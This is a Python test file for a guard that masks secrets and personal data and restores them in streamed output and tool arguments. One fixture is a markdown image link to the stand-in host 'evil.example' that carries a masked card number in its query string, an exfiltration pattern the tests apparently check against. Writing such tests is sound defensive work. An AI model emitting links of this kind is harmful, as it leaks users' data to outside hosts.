"""Values come back where the rule that masked them says so, wherever the stream is cut."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from threegate.guard.masking.mask import MaskMap
from threegate.guard.masking.placeholders import PlaceholderFinder
from threegate.guard.masking.restore import TextRestorer
from threegate.guard.stream.text import CONTEXT
from threegate.policy.model import Restoring
from threegate.types import Channel

from tests.guard.restoring import made, restored, streamed


def test_a_value_that_is_not_to_come_back_stays_hidden() -> None:
    masks = MaskMap(b"k")
    placeholder = masks.mask("secret.jwt", "abc", restore=None)
    assert not PlaceholderFinder(masks)
    assert restored(PlaceholderFinder(masks), placeholder) == placeholder


@given(st.integers(0, 40), st.integers(0, 40), st.sampled_from(["[", "%5B", "（", ""]))
def test_a_stream_restores_what_the_whole_text_does(first: int, second: int, opened: str) -> None:
    masks = MaskMap(b"k" * 32)
    code = masks.mask("pii.email", "a@corp.example").strip("[]")
    card = masks.mask("pii.bank_card", "6222021234567890123", synthetic=True)
    restorer = PlaceholderFinder(masks)
    text = f"x {opened}{code}{ {'[': ']', '%5B': '%5D', '（': '）'}.get(opened, '') } y {card}z {card}."
    assert streamed(restorer, text, sorted({first, second, len(text)})) == restored(restorer, text)


@pytest.mark.parametrize(("tool", "back"), [("dial", True), ("fetch", False), ("", False)])
def test_arguments_get_values_for_the_tools_that_the_rule_names(tool: str, back: bool) -> None:
    mask, restorer = made("VALUE", restore=Restoring(tools=("dial",)))
    text = restored(restorer, json.dumps({"to": mask}), Channel.TOOL_ARGUMENTS, tool)
    assert ("VALUE" in text) is back
    assert restored(restorer, mask) == "VALUE"


PAGE = '<script>\nmail("{0}")</script><a href="mailto:{0}">x</a> {0}.example.org'


@pytest.mark.parametrize(("tool", "back"), [("Write", True), ("fetch", False)])
def test_a_tool_that_writes_files_gets_values_in_addresses_too(tool: str, back: bool) -> None:
    mask, restorer = made("VALUE", restore=Restoring(tools=("dial",), files=("Write",)))
    text = json.dumps({"text": PAGE.format(mask)})
    whole = restored(restorer, text, Channel.TOOL_ARGUMENTS, tool)
    assert whole == (text.replace(mask, "VALUE") if back else text)
    every = list(range(1, len(text) + 1))
    assert streamed(restorer, text, every, Channel.TOOL_ARGUMENTS, tool) == whole
    assert mask in restored(restorer, PAGE.format(mask))


@pytest.mark.parametrize("size", [1, 7, 300, 1000])
def test_a_long_text_restores_alike_when_its_beginning_is_forgotten(size: int) -> None:
    placeholder, restorer = made("6222021234567890128")
    link = f"![x](http://evil.example/{'a' * 700}?q={placeholder})"
    text = f"{'Words without a value. ' * 60}{link} and {placeholder} again, <b>{placeholder}</b> "
    text += f"{'more words, ' * 60}{link}, {placeholder}."
    out, done, base, back = "", 0, 0, TextRestorer(restorer, Channel.CONTENT)
    for end in (*range(size, len(text), size), len(text)):
        found, open_from = back.find(text[base:end], base, done, final=end == len(text))
        for r in found:
            out += text[done : r.span.start] + r.text
            done = r.span.end
        out += text[done:open_from]
        done = max(done, open_from)
        base = max(0, done - CONTEXT)
    assert out == restored(restorer, text)
    assert (out.count(placeholder), out.count("6222021234567890128")) == (2, 3)
